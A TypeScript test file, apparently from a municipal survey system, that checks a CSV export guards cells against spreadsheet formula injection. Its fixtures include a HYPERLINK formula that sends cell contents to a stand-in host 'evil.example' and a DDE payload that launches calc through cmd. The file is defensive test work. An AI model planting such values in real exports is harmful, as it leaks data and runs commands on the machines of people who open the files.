import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addApiToken, addKiosk, addSite } from "../../sync-server/admin/verbs.ts";
import { createTestDatabase, type TestDatabase } from "../helpers/database.ts";
import { interview, storeInterviews } from "../helpers/fixtures.ts";
import { startTestServer, type TestServer } from "../helpers/test-server.ts";

/** Names an attacker with admin rights (or a careless one) could give a site or a kiosk. */
const siteName = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
const kioskName = "@SUM(1+1)*cmd|' /C calc'!A0";
const comment = "+45 er ikke et telefonnummer her";

let db: TestDatabase;
let server: TestServer;
let token: string;

beforeAll(async () => {
  db = await createTestDatabase();
  server = await startTestServer(db.pool);
  const site = await addSite(db.pool, { name: siteName, municipality: "Formelkommune" });
  const kiosk = await addKiosk(db.pool, { siteId: site.siteId, name: kioskName });
  token = (
    await addApiToken(db.pool, { role: "analyst", siteIds: [], municipality: "Formelkommune" })
  ).token;
  await storeInterviews(
    db.pool,
    { municipalityId: site.municipalityId, siteId: site.siteId, kioskId: kiosk.kioskId },
    Array.from({ length: 6 }, (_, i) =>
      interview(i + 1, new Date(`2026-03-02T09:1${i}:00Z`), {
        got_help: "yes",
        improve: "could_be_better",
        improve_text: i === 0 ? comment : "Fint",
      }),
    ),
  );
});
afterAll(async () => {
  await server.close();
  await db.drop();
});

async function csv(path: string) {
  const response = await fetch(`${server.baseUrl}/api/v1/export/${path}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  expect(response.status).toBe(200);
  const text = (await response.text()).replace(/^\ufeff/, "");
  const excel = path.includes("excel-da");
  return parse(text, { columns: true, delimiter: excel ? ";" : "," }) as Record<string, string>[];
}

const range = "from=2026-03-01&to=2026-03-31";

describe("excel-da guards every text cell against formulas", () => {
  it("responses.csv: site names as well as free text", async () => {
    const rows = await csv(`responses.csv?${range}&dialect=excel-da`);
    expect(rows.map((row) => row.site_name)).toEqual(rows.map(() => `'${siteName}`));
    expect(rows.map((row) => row.improve_text)).toContain(`'${comment}`);
    expect(rows.map((row) => row.improve_text)).toContain("Fint");
  });

  it("figures.csv: site and kiosk names", async () => {
    const bySite = await csv(`figures.csv?${range}&by=site&dialect=excel-da`);
    expect(new Set(bySite.map((row) => row.site))).toEqual(new Set([`'${siteName}`]));
    const byKiosk = await csv(`figures.csv?${range}&by=kiosk&dialect=excel-da`);
    const names = new Set(byKiosk.map((row) => row.site));
    expect(names.size).toBe(1);
    for (const name of names) expect(name?.startsWith("'")).toBe(true);
    // No cell of either file starts a formula.
    for (const row of [...bySite, ...byKiosk])
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it("rfc4180 carries the text exactly as stored, as the codebook says", async () => {
    const rows = await csv(`responses.csv?${range}`);
    expect(rows[0]?.site_name).toBe(siteName);
    expect(rows.map((row) => row.improve_text)).toContain(comment);
    const bySite = await csv(`figures.csv?${range}&by=site`);
    expect(bySite[0]?.site).toBe(siteName);
    const codebook = await fetch(`${server.baseUrl}/api/v1/export/codebook?format=md`, {
      headers: { authorization: `Bearer ${token}` },
    });
    const markdown = await codebook.text();
    expect(markdown).toMatch(/rfc4180.*exactly as stored/);
    expect(markdown.match(/excel-da dialect/g)?.length).toBeGreaterThanOrEqual(2);
  });
});
